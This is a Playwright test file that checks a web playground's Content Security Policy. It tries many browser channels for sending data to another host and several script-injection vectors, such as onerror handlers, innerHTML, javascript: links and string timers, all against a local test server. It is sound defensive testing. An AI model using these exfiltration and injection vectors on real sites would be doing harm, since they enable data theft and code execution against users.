import { createServer } from 'node:http';
import { test as base, expect, type Page } from '@playwright/test';
import { close, listen, originOf } from '../tests/hub/server';
import { MODEL, startHub } from './support/hub';
import { SITE_URL } from './support/globalSetup';
import { createPlayground } from './support/playground';

/** Without the guard of the other tests: here what it must notice is tried on purpose. */
const test = base.extend<{ readonly site: string; readonly elsewhere: Elsewhere }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the names of the fixtures out of this pattern.
  site: async ({}, provide) => provide(process.env[SITE_URL] ?? ''),
  // eslint-disable-next-line no-empty-pattern -- As above.
  elsewhere: async ({}, provide) => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      seen.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('0;');
    });
    server.on('upgrade', (request, socket) => {
      seen.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await listen(server);
    const { host, port } = new URL(originOf(server));
    await provide({ seen, refused: `localhost:${port}`, allowed: host });
    await close(server);
  },
});

/** A server that is not the site's, under two names: the policy of the tests' build allows the second, as a hub. */
interface Elsewhere {
  readonly seen: readonly string[];
  readonly refused: string;
  readonly allowed: string;
}

/** Ways out of a page, each with an address of its own; they run inside it. */
const WAYS_OUT: Readonly<Record<string, (host: string) => unknown>> = {
  fetch: (host) => fetch(`http://${host}/fetch`, { method: 'POST', body: 'sound', mode: 'no-cors' }).catch(() => 0),
  request: (host) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${host}/request`);
    request.send('sound');
  },
  beacon: (host) => navigator.sendBeacon(`http://${host}/beacon`, 'sound'),
  socket: (host) => void new WebSocket(`ws://${host}/socket`),
  events: (host) => void new EventSource(`http://${host}/events`),
  image: (host) => {
    new Image().src = `http://${host}/image?sound`;
  },
  sound: (host) => void new Audio(`http://${host}/sound`).play().catch(() => 0),
  style: (host) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'stylesheet', href: `http://${host}/style` });
    document.head.append(link);
  },
  frame: (host) => {
    const frame = document.createElement('iframe');
    frame.src = `http://${host}/frame`;
    document.body.append(frame);
  },
  form: (host) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `http://${host}/form`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  prefetch: (host) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'prefetch', href: `http://${host}/prefetch` });
    document.head.append(link);
  },
};

/** Ways to run what is no file of the site; each sets `window.ran` where it is let. */
const WAYS_IN: Readonly<Record<string, (host: string) => unknown>> = {
  inline: () => {
    const script = document.createElement('script');
    script.append('window.ran = true');
    document.body.append(script);
  },
  handler: () => {
    const image = new Image();
    image.setAttribute('onerror', 'window.ran = true');
    image.src = 'data:,';
    document.body.append(image);
  },
  markup: () => {
    document.createElement('p').innerHTML = '<img src="data:," onerror="window.ran = true">';
  },
  address: (host) => {
    const script = document.createElement('script');
    script.src = `http://${host}/script`;
    document.body.append(script);
  },
  text: () => setTimeout('window.ran = true', 0),
  link: () => {
    const link = document.createElement('a');
    link.href = 'javascript:window.ran = true';
    document.body.append(link);
    link.click();
  },
  worker: () => void new Worker('data:text/javascript,0'),
};

async function attempt(page: Page, ways: Readonly<Record<string, (host: string) => unknown>>, host: string) {
  for (const way of Object.values(ways)) await page.evaluate(way, host).catch(() => undefined);
  await page.waitForTimeout(500);
}

test('promise 59: no way out of the page leads to another host', async ({ page, site, elsewhere }) => {
  const violations = await noteViolations(page);
  await createPlayground(page, site).open('cpu');
  await attempt(page, WAYS_OUT, elsewhere.refused);
  expect(elsewhere.seen).toEqual([]);
  const refused = ['connect-src', 'img-src', 'media-src', 'style-src-elem', 'frame-src', 'form-action'];
  expect(await violations()).toEqual(expect.arrayContaining(refused));

  await test.step('the same ways lead to it where there is no policy', async () => {
    const server = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<p>'));
    await listen(server);
    await page.goto(originOf(server));
    await attempt(page, WAYS_OUT, elsewhere.refused);
    for (const way of Object.keys(WAYS_OUT)) {
      await expect.poll(() => elsewhere.seen.some((seen) => seen.includes(`/${way}`)), way).toBe(true);
    }
    await close(server);
  });
});

test('promise 59: nor does any of the workers', async ({ page, site, elsewhere }) => {
  const playground = createPlayground(page, site);
  await playground.open('wasm');
  await playground.useDemo();
  await expect(page.getByTestId('start')).toBeEnabled({ timeout: 60_000 });
  const workers = page.workers();
  expect(workers.length, 'the engine, sounds, threads').toBeGreaterThan(2);
  const send = async (host: string) => {
    const tries = workers.map((worker) =>
      Promise.race([
        worker.evaluate((to) => fetch(`http://${to}/`, { method: 'POST', body: 'x' }).then(() => 'sent', String), host),
        // A thread of WebAssembly waits for work, and answers nobody.
        page.waitForTimeout(3000).then(() => 'busy'),
      ]),
    );
    return Promise.all(tries);
  };
  const refused = await send(elsewhere.refused);
  expect(refused.filter((answer) => answer !== 'busy').length).toBeGreaterThan(1);
  expect(refused).not.toContain('sent');
  expect(elsewhere.seen).toEqual([]);
  expect(await send(elsewhere.allowed), 'the hub of the tests').toContain('sent');
});

test('nothing runs in the page but the files of the site', async ({ page, site, elsewhere }) => {
  await createPlayground(page, site).open('cpu');
  await attempt(page, WAYS_IN, elsewhere.allowed);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(elsewhere.seen).toEqual([]);
});

test('promise 59: a hub that the page was not built for is refused by its name', async ({ page, site, elsewhere }) => {
  const playground = createPlayground(page, site);
  const alert = playground.backbone.getByRole('alert');
  await playground.open('cpu');
  await playground.openBackbones();
  await playground.setHub(`http://${elsewhere.refused}`);
  await playground.fetchModel(MODEL);
  await expect(alert).toContainText(`The page may not connect to ${elsewhere.refused}`);
  expect(elsewhere.seen).toEqual([]);

  await test.step('also where the hub itself leads there', async () => {
    const hub = await startHub('localhost');
    await playground.setHub(hub.endpoint);
    await playground.fetchModel(MODEL);
    await expect(alert).toContainText(
      `The page may not connect to ${new URL(hub.endpoint).host}, or to where that leads`,
    );
    expect(hub.seen.filter(({ origin }) => origin === 'files')).toEqual([]);
    await hub.close();
  });
});

/** Notes what the policy refuses a page. Answers with the directives, each once. */
async function noteViolations(page: Page): Promise<() => Promise<readonly string[]>> {
  const noted = new Set<string>();
  await page.exposeFunction('noteViolation', (directive: string) => noted.add(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      void (window as unknown as { noteViolation(directive: string): void }).noteViolation(effectiveDirective);
    });
  });
  return async () => [...noted].sort();
}
